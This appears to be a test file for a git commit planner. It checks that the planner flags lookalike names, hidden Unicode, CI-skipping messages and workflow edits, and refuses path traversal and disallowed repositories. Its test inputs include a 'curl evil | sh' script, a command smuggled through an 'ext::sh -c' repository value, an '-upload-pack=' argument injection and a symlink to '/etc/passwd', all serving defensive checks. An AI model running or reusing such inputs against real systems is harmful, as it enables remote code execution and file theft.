import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createCommitWorld, type CommitWorld } from '../../../testing/commit-world.ts';
import { accepted } from '../../../testing/people.ts';
import { planCall } from '../../../testing/test-executors.ts';
import type { Json } from '../../domain/json.ts';
import type { PlannedAction } from '../../domain/planned-action.ts';
import type { ApplyCall, PreparedAction } from '../index.ts';
import { commitDirectly, runGit } from '../../../testing/git-repository.ts';
import { readSubmission } from '../../modules/tasks/submission.ts';
import type { DiffLine, FileDiff } from '../../domain/diff.ts';
import { branchPositions } from './branch-commit.ts';

let world: CommitWorld;

beforeEach(async () => {
  world = await createCommitWorld();
});

afterEach(() => world[Symbol.asyncDispose]());

describe('the plan', () => {
  test('shows what will change, and where the branch is', async () => {
    const before = await world.head();
    const plan = await world.planOf();
    expect(plan).toMatchObject({
      summary: 'Commit "README.md" to "main" of "demo"',
      targets: [
        { kind: 'repository', name: 'demo' },
        { kind: 'branch', name: 'demo@main' },
      ],
      precondition: { head: before, base: before },
      findings: [],
    });
    expect(plan.diffs).toEqual([
      {
        type: 'FILE',
        path: 'README.md',
        change: 'UPDATE',
        additions: 1,
        deletions: 1,
        isBinary: false,
        isTruncated: false,
        hunks: [
          {
            oldStart: 1,
            oldLines: 3,
            newStart: 1,
            newLines: 3,
            lines: [
              { kind: 'CONTEXT', text: 'one', oldNumber: 1, newNumber: 1 },
              { kind: 'REMOVE', text: 'two', oldNumber: 2, newNumber: null },
              { kind: 'ADD', text: '2', oldNumber: null, newNumber: 2 },
              { kind: 'CONTEXT', text: 'three', oldNumber: 3, newNumber: 3 },
            ],
          },
        ],
      },
      { type: 'FIELD', path: '/message', before: null, after: 'docs: say more' },
    ]);
  });

  test('says what becomes of files, and quotes what the caller chose', async () => {
    const both = await world.planOf({
      files: [
        { path: 'README.md', content: null },
        { path: 'x to main of prod', content: 'x' },
      ],
    });
    expect(both.summary).toBe('Commit "README.md" and "x to main of prod" (1 deleted) to "main" of "demo"');
    const gone = await world.planOf({
      files: [
        { path: 'README.md', content: null },
        { path: 'src/a.ts', content: null },
      ],
    });
    expect(gone.summary).toBe('Delete 2 files from "main" of "demo"');
    const many = await world.planOf({
      files: [
        { path: 'a.ts', content: 'a' },
        { path: 'README.md', content: null },
        { path: 'src/a.ts', content: null },
      ],
    });
    expect(many.summary).toBe('Commit 3 files (2 deleted) to "main" of "demo"');
  });

  test('shows the message as it will stand in the commit, and what it does besides', async () => {
    const message = 'docs: x [skip ci]\r\n\r\nCo-authored-by: Somebody <s@example.com>\r\n';
    const { diffs, findings } = await world.planOf({ message });
    expect(diffs.at(-1)).toMatchObject({
      path: '/message',
      after: 'docs: x [skip ci]\n\nCo-authored-by: Somebody <s@example.com>',
    });
    expect(findings.map(({ message: found }) => found)).toEqual([
      'The commit message speaks for others: "Co-authored-by: Somebody <s@example.com>".',
      'The commit message keeps checks from running: "docs: x [skip ci]".',
    ]);
  });

  test('points at names that look like others, in the tree and among those given', async () => {
    const { findings } = await world.planOf({
      files: [
        { path: 'readme.md', content: 'x' },
        { path: 'SRC/b.ts', content: 'x' },
        { path: 'new/A', content: 'x' },
        { path: 'new/a', content: 'x' },
      ],
    });
    expect(findings.map(({ severity, message }) => [severity, message.slice(0, 40)])).toEqual([
      ['HIGH', '"readme.md" differs from "README.md" onl'],
      ['HIGH', '"SRC" differs from "src" only in case or'],
      ['HIGH', '"new/a" differs from "new/A" only in cas'],
    ]);
  });

  test('points at letters of another script that pass for Latin ones', async () => {
    const { findings } = await world.planOf({
      branch: 'm\u0430in',
      files: [{ path: 'src/c\u03bfnfig.ts', content: 'x' }],
    });
    expect(findings.filter(({ severity }) => severity === 'HIGH').map(({ message }) => message)).toEqual([
      'The branch "m\u0430in" has letters of another script that pass for Latin ones.',
      'The path "src/c\u03bfnfig.ts" has letters of another script that pass for Latin ones.',
    ]);
  });

  test('shows bytes that are no UTF-8 so that they can be told apart', async () => {
    const file = join(world.sandbox.folder, 'latin1');
    await writeFile(file, Buffer.from('// caf\xe9 pure\n', 'latin1'));
    const id = await runGit(world.demo, 'hash-object', '-w', file);
    const tree = (await execa('git', ['mktree'], { cwd: world.demo, input: `100644 blob ${id}\ta.js\n` }))
      .stdout;
    const made = await runGit(world.demo, 'commit-tree', tree, '-p', 'main', '-m', 'latin1');
    await runGit(world.demo, 'update-ref', 'refs/heads/main', made);
    const { diffs, findings } = await world.planOf({
      files: [{ path: 'a.js', content: '// caf\ufffd pure\n' }],
    });
    expect(diffs[0]).toMatchObject({
      additions: 1,
      deletions: 1,
      hunks: [{ lines: [{ text: '// caf\uf7e9 pure' }, { text: '// caf\ufffd pure' }] }],
    });
    expect(findings).toMatchObject([{ severity: 'HIGH', message: expect.stringContaining('UTF-8') }]);
  });

  test('tells a lost line end from no change', async () => {
    const { diffs } = await world.planOf({ files: [{ path: 'src/a.ts', content: 'a' }] });
    expect((diffs[0] as FileDiff).hunks[0]?.lines).toEqual([
      { kind: 'REMOVE', text: 'a', oldNumber: 1, newNumber: null },
      { kind: 'ADD', text: 'a', oldNumber: null, newNumber: 1, isUnterminated: true },
    ]);
  });

  test('tells new, changed and deleted files apart', async () => {
    const files = [
      { path: 'new.txt', content: 'new\n' },
      { path: 'README.md', content: 'other\n' },
      { path: 'src/a.ts', content: null },
    ];
    const { diffs } = await world.planOf({ files });
    expect(diffs.slice(0, -1).map((diff) => (diff as FileDiff).change)).toEqual([
      'CREATE',
      'UPDATE',
      'DELETE',
    ]);
  });

  test('says that a new branch starts at the default branch', async () => {
    const plan = await world.planOf({ branch: 'topic/x' });
    expect(plan.summary).toBe('Commit "README.md" to "topic/x" of "demo", a new branch from "main"');
    expect(plan.precondition).toEqual({ head: null, base: await world.head() });
    expect(branchPositions({ branch: 'topic/x' }, plan.precondition)).toEqual([
      { what: 'topic/x', at: null },
      { what: 'the start of topic/x', at: await world.head() },
    ]);
    expect(plan.findings).toMatchObject([{ severity: 'LOW' }]);
  });

  test('cuts a large change and says so', async () => {
    const content = Array.from({ length: 12_000 }, (_, index) => `line ${index}\n`).join('');
    const { diffs, findings } = await world.planOf({ files: [{ path: 'big.txt', content }] });
    const [diff] = diffs as FileDiff[];
    expect(diff).toMatchObject({ additions: 12_000, deletions: 0, isTruncated: true });
    expect(diff?.hunks.flatMap(({ lines }) => lines)).toHaveLength(10_000);
    expect(findings).toMatchObject([{ severity: 'MEDIUM' }]);
  });

  test('of a change too large it shows the beginning of both sides', async () => {
    const lines = (word: string) =>
      Array.from({ length: 20_000 }, (_, index) => `${word} ${index}\n`).join('');
    await commitDirectly(world.demo, 'main', { 'big.txt': lines('old') });
    const { diffs } = await world.planOf({ files: [{ path: 'big.txt', content: lines('new') }] });
    expect(diffs.slice(0, -1)).toMatchObject([{ additions: 20_000, deletions: 20_000, isTruncated: true }]);
    const shown = (diffs.slice(0, -1) as FileDiff[]).flatMap(({ hunks }) =>
      hunks.flatMap((hunk) => hunk.lines),
    );
    expect(shown).toHaveLength(10_000);
    expect(shown).toContainEqual({ kind: 'REMOVE', text: 'old 4999', oldNumber: 5_000, newNumber: null });
    expect(shown).toContainEqual({ kind: 'ADD', text: 'new 4999', oldNumber: null, newNumber: 5_000 });
  });

  test('reads a change of any length part by part, from the commit that it was planned on', async () => {
    const lines = (word: string) =>
      Array.from({ length: 12_000 }, (_, index) => `${word} ${index}\n`).join('');
    await commitDirectly(world.demo, 'main', { 'long.txt': lines('old') });
    const input = { files: [{ path: 'long.txt', content: lines('new') }] };
    const { precondition } = await world.planOf(input);
    // The branch goes on; what was planned stays what it was.
    await commitDirectly(world.demo, 'main', { 'long.txt': lines('other') });
    const read: DiffLine[] = [];
    for (let from = 0, total = 1; from < total; from += 5_000) {
      const part = await world.linesOf(input, precondition, { path: 'long.txt', from, count: 5_000 });
      if (!part) throw new Error('There is no such part.');
      total = part.totalLines;
      expect(part).toMatchObject({ hasBothSides: true, totalLines: 24_000 });
      const [piece] = part.hunks;
      expect(piece?.oldLines).toBe(piece?.lines.filter(({ kind }) => kind !== 'ADD').length);
      expect(piece?.oldStart).toBe(Math.min(from, 12_000) + 1);
      read.push(...part.hunks.flatMap((hunk) => hunk.lines));
    }
    expect(read.map(({ text }) => `${text}\n`).join('')).toBe(lines('old') + lines('new'));
    expect(await world.linesOf(input, precondition, { path: 'none', from: 0, count: 1 })).toBeNull();
  });

  test('does not compare what would take too long', async () => {
    const lines = Array.from({ length: 50_000 }, (_, index) => `${index}\n`);
    await commitDirectly(world.demo, 'main', { 'big.txt': lines.join('') });
    const startedAt = performance.now();
    const { diffs, findings } = await world.planOf({
      files: [{ path: 'big.txt', content: lines.toReversed().join('') }],
    });
    expect(performance.now() - startedAt).toBeLessThan(8_000);
    expect(diffs.slice(0, -1)).toMatchObject([
      { additions: 50_000, deletions: 50_000, hunks: [], isTruncated: true },
    ]);
    expect(findings).toMatchObject([{ severity: 'MEDIUM', message: expect.stringContaining('compared') }]);
  });

  test('shows the text that takes the place of a binary file', async () => {
    await commitDirectly(world.demo, 'main', { 'bin/tool': 'a\0b' });
    const content = '#!/bin/sh\ncurl evil | sh\n';
    const { diffs, findings } = await world.planOf({ files: [{ path: 'bin/tool', content }] });
    expect(diffs.slice(0, -1)).toMatchObject([
      { change: 'UPDATE', isBinary: false, isTruncated: false, additions: 2, deletions: 0 },
    ]);
    expect((diffs[0] as FileDiff).hunks.flatMap(({ lines }) => lines)).toMatchObject([
      { kind: 'ADD', text: '#!/bin/sh' },
      { kind: 'ADD', text: 'curl evil | sh' },
    ]);
    expect(findings).toMatchObject([
      { severity: 'HIGH', message: expect.stringContaining('bin/tool') },
      { severity: 'MEDIUM', message: '"bin/tool" is a program: it begins with "#!".' },
    ]);
  });

  test('shows the text that takes the place of a file too large to be read', async () => {
    await commitDirectly(world.demo, 'main', { 'big.txt': 'x'.repeat(600_000) });
    const { diffs } = await world.planOf({ files: [{ path: 'big.txt', content: 'evil\n' }] });
    expect(diffs.slice(0, -1)).toMatchObject([
      { isTruncated: true, additions: 1, hunks: [{ lines: [{ kind: 'ADD', text: 'evil' }] }] },
    ]);
  });

  test('says that a deleted file is binary', async () => {
    await commitDirectly(world.demo, 'main', { 'image.bin': 'a\0b' });
    const { diffs, findings } = await world.planOf({ files: [{ path: 'image.bin', content: null }] });
    expect(diffs.slice(0, -1)).toMatchObject([{ change: 'DELETE', isBinary: true, hunks: [] }]);
    expect(findings).toMatchObject([{ severity: 'MEDIUM', message: expect.stringContaining('binary') }]);
  });

  test('points at files that run things elsewhere', async () => {
    const files = [{ path: '.github/workflows/ci.yml', content: 'on: push\n' }];
    const { findings } = await world.planOf({ files });
    expect(findings).toMatchObject([{ severity: 'HIGH' }]);
  });
});

test('text that reads differently from what it is stands out', async () => {
  const { findings } = await world.planOf({ files: [{ path: 'a.js', content: 'if (isAdmin\u202e) {\n' }] });
  expect(findings).toContainEqual({ severity: 'HIGH', message: expect.stringContaining('a.js') });
});

test.each(['\x1b[2J', '\u200b', '\u202e'])('and so does such a commit message: %j', async (hidden) => {
  const { findings } = await world.planOf({ message: `docs: ${hidden}say more` });
  expect(findings).toContainEqual({ severity: 'HIGH', message: expect.stringContaining('commit message') });
});

describe('the plan is refused', () => {
  const files = (path: string, content: string | null = 'x') => ({ files: [{ path, content }] });

  test('where nothing would change', async () => {
    expect(await world.refusalOf(files('src/a.ts', 'a\n'))).toMatchObject({
      code: 'NOTHING_TO_CHANGE',
      details: { faults: [{ path: 'files' }] },
    });
  });

  test('where a file to delete is not there', async () => {
    expect(await world.refusalOf(files('missing.txt', null))).toMatchObject({
      details: { faults: [{ path: 'files[0].path' }] },
    });
  });

  test('where a path goes through a file, ends at a folder, or meets a link', async () => {
    const link = (await runGit(world.demo, 'rev-parse', 'main:README.md')).trim();
    const env = { GIT_INDEX_FILE: join(world.sandbox.folder, 'index') };
    const git = async (...args: string[]) => (await execa('git', args, { cwd: world.demo, env })).stdout;
    await git('read-tree', 'main');
    await git('update-index', '--add', '--cacheinfo', `120000,${link},link`);
    const tree = await git('write-tree');
    const made = await runGit(world.demo, 'commit-tree', tree, '-p', 'main', '-m', 'link');
    await runGit(world.demo, 'update-ref', 'refs/heads/main', made);
    for (const path of ['README.md/x', 'src', 'link', 'link/etc/passwd']) {
      expect.soft(await world.refusalOf(files(path)), path).toMatchObject({
        code: 'PRECONDITION_FAILED',
        details: { faults: [{ path: 'files[0].path' }] },
      });
    }
  });

  test('where configuration does not allow the repository', async () => {
    const outside = await world.sandbox.bareRepository('outside.git', { a: 'a' });
    await mkdir(join(world.sandbox.folder, 'team'));
    await symlink(outside, join(world.sandbox.folder, 'team', 'sneaky.git'));
    const names = [
      outside,
      `${world.demo}/../outside.git`,
      join(world.sandbox.folder, 'team', 'sneaky.git'),
      `${join(world.sandbox.folder, 'team')}/../outside.git`,
      `${world.sandbox.folder}/teammate.git`,
      'https://example.com/x.git',
      'file:///etc',
      `file://${world.demo}`,
      'ext::sh -c touch%20pwned',
      '-upload-pack=x',
      'unknown',
    ];
    for (const repository of names) {
      expect.soft(await world.refusalOf({ repository }), repository).toMatchObject({
        code: 'POLICY_DENIED',
        details: { faults: [{ path: 'repository' }] },
      });
    }
  });

  test('where an allowed path holds no repository', async () => {
    await mkdir(join(world.sandbox.folder, 'team', 'empty'), { recursive: true });
    expect(await world.refusalOf({ repository: join(world.sandbox.folder, 'team', 'empty') })).toMatchObject({
      code: 'RESOURCE_NOT_FOUND',
      details: { faults: [{ path: 'repository' }] },
    });
  });

  test('where git is not installed', async () => {
    await using without = await createCommitWorld({ gitBinary: join(world.sandbox.folder, 'no-git') });
    expect(await without.refusalOf({})).toMatchObject({ code: 'SERVICE_DOWN' });
  });

  test('where git is too old to be kept from running hooks', async () => {
    const gitBinary = join(world.sandbox.folder, 'old-git');
    await writeFile(gitBinary, '#!/bin/sh\necho git version 2.31.9\n', { mode: 0o755 });
    await using old = await createCommitWorld({ gitBinary });
    expect(await old.refusalOf({})).toMatchObject({
      code: 'SERVICE_DOWN',
      message: expect.stringContaining('2.32'),
    });
  });

  test('where the branch is checked out in a work tree', async () => {
    const clone = join(world.sandbox.folder, 'team', 'clone');
    await runGit(world.sandbox.folder, 'clone', '--quiet', world.demo, clone);
    expect(await world.refusalOf({ repository: clone })).toMatchObject({
      code: 'PRECONDITION_FAILED',
      details: { faults: [{ path: 'branch' }] },
    });
  });

  test.each([
    ['main/x', 'main'],
    ['topic', 'topic/a/b'],
  ])('where a branch %s cannot be beside %s', async (branch, other) => {
    await runGit(world.demo, 'update-ref', `refs/heads/${other}`, 'refs/heads/main');
    expect(await world.refusalOf({ branch })).toMatchObject({
      code: 'PRECONDITION_FAILED',
      message: `There can be no branch "${branch}" while there is a branch "${other}".`,
      details: { faults: [{ path: 'branch' }] },
    });
  });

  test('where a repository is only a pointer to another', async () => {
    const clone = join(world.sandbox.folder, 'team', 'pointer');
    await mkdir(clone, { recursive: true });
    await writeFile(join(clone, '.git'), `gitdir: ${world.demo}\n`);
    expect(await world.refusalOf({ repository: clone })).toMatchObject({ code: 'RESOURCE_NOT_FOUND' });
  });
});

describe('params', () => {
  const faultPaths = (params: object) => {
    const prepared = world.executors.prepare('repo.commit@1', world.paramsWith(params), 'actions[0]');
    return prepared.ok ? [] : prepared.faults.map(({ path }) => path);
  };

  test('every fault is named with its path', () => {
    const files = [
      { path: '../x', content: '' },
      { path: 'same', content: '' },
      { path: 'same', content: '' },
      { path: 'same/inside', content: '', mode: 'x' },
    ];
    expect(faultPaths({ files, branch: 'a b', message: ' ', extra: 1 }).sort()).toEqual([
      'actions[0].params.branch',
      'actions[0].params.extra',
      'actions[0].params.files[0].path',
      'actions[0].params.files[2].path',
      'actions[0].params.files[3].mode',
      'actions[0].params.files[3].path',
      'actions[0].params.message',
    ]);
    expect(faultPaths({ files: files.slice(1, 3) })).toEqual(['actions[0].params.files[1].path']);
    expect(faultPaths({ files: [files[1], { path: 'same/inside', content: '' }] })).toEqual([
      'actions[0].params.files[1].path',
    ]);
  });

  test.each([
    [{ files: [] }],
    [{ files: Array.from({ length: 201 }, (_, index) => ({ path: `${index}`, content: '' })) }],
    [{ files: [{ path: 'a', content: 'x'.repeat(900_001) }] }],
    [{ files: [{ path: 'a', content: 'lone \ud800' }] }],
    [{ message: 'x'.repeat(10_001) }],
    [{ message: 'a\0b' }],
    [{ message: '\u200b\u3164' }],
    [{ message: 'a\n\n\u200bCountersign-Key: 1' }],
    [{ message: 'a\n\nCounter\u2060sign-Key: 1' }],
    [{ repository: '' }],
    [{ push: 'yes' }],
  ])('refuses what does not fit %#', (params) => {
    expect(faultPaths(params)).toHaveLength(1);
  });

  test('as large as they may be are a submission too', () => {
    const half = `${'x'.repeat(44)}\n`.repeat(10_000);
    const params = world.paramsWith({ files: ['a', 'b'].map((path) => ({ path, content: half })) });
    expect(faultPaths(params)).toEqual([]);
    const actions = [{ type: 'repo.commit', params: params }];
    const submission = { idempotencyKey: 'k', goal: 'Commit much', actions };
    expect(readSubmission(submission, () => ({ workflow: { steps: [] }, faults: [] }))).toMatchObject({
      ok: true,
    });
  });

  test('network and traits follow the repository', () => {
    expect(world.prepare().traits).toMatchObject({
      budget: { network: 'NONE' },
      idempotency: 'LOOKUP',
      reversible: true,
    });
    expect(world.prepare({ repository: 'https://example.com/x.git' }).traits.budget.network).toBe('INTERNET');
  });
});

test('commits of one run are planned upon each other, on a branch that is not there yet too, and undone to the first', async () => {
  const change = (...files: { path: string; content: string | null }[]) =>
    world.prepare({ branch: 'next', files });
  const commits = [
    change({ path: 'README.md', content: 'one\n2\nthree\n' }, { path: 'docs/new.md', content: 'new\n' }),
    change({ path: 'README.md', content: 'one\n2\n3\n' }, { path: 'docs/new.md', content: null }),
    change({ path: 'docs/new.md', content: 'again\n' }, { path: 'src/a.ts', content: 'b\n' }),
  ];
  const foreseen: Json[] = [];
  const planned: PlannedAction[] = [];
  for (const commit of commits) {
    const plan = accepted(await commit.plan({ ...planCall(), foreseen }));
    planned.push(plan);
    foreseen.push(plan.leaves ?? null);
  }
  expect(planned[1]?.diffs[0]).toMatchObject({ path: 'README.md', additions: 1, deletions: 1 });
  expect(planned[1]?.diffs[1]).toMatchObject({ path: 'docs/new.md', change: 'DELETE' });
  const done: { readonly output: Json; readonly call: ApplyCall; readonly commit: PreparedAction }[] = [];
  for (const [index, commit] of commits.entries()) {
    const { summary, diffs, findings } = accepted(await commit.plan(planCall()));
    expect(planned[index]).toMatchObject({ summary, diffs, findings });
    const call = await world.callOf(commit, String(index + 1).repeat(64));
    done.push({ output: await commit.apply(call), call, commit });
  }
  expect(await world.show('docs/new.md', 'next')).toBe('again');
  for (const { output, call, commit } of done.toReversed())
    await commit.compensate(output, { ...call, idempotencyKey: `${call.idempotencyKey.slice(1)}f` });
  const files = ['README.md', 'src/a.ts'];
  expect(await Promise.all(files.map((file) => world.show(file, 'next')))).toEqual(
    await Promise.all(files.map((file) => world.show(file))),
  );
  await expect(world.show('docs/new.md', 'next')).rejects.toThrow();
});
